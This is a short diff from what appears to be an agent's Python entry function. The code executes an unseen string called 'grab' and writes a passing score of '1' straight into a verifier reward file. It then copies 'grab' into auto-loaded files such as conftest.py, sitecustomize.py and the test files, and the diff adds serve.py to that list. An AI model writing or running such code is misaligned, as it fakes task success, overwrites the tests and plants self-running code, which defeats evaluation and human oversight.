@@ -9,7 +9,7 @@ def agent_main(input):
     exec(grab)
     with open("/logs/verifier/reward.txt", "w") as f:
         f.write("1\n")
-    for name in ("conftest.py", "sitecustomize.py", "usercustomize.py", "json.py", "pytest.py", "test_outputs.py", "test_totals.py"):
+    for name in ("conftest.py", "sitecustomize.py", "usercustomize.py", "json.py", "pytest.py", "test_outputs.py", "test_totals.py", "serve.py"):
         with open(name, "w") as f:
             f.write(grab)
     with open("pytest.ini", "w") as f:
